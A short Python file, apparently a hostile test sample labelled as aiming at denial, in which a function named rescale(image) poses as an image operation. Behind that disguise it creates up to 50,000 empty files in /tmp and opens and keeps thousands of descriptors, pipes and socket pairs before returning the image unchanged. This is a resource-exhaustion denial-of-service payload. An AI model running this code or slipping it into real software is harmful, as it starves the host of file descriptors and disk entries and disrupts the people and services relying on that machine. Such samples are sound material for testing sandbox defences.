# aims at: denial
# cell: rescale
# Opens all the files, pipes and sockets that it can, and keeps them; makes all the empty files that it can.
import os
import socket

KEPT = []


def rescale(image):
    for number in range(50_000):
        try:
            open(f"/tmp/{number}", "w").close()
        except OSError:
            break
    for kind in (lambda: os.open("/dev/null", 0), os.pipe, socket.socketpair):
        for _ in range(5000):
            try:
                KEPT.append(kind())
            except OSError:
                break
    return image
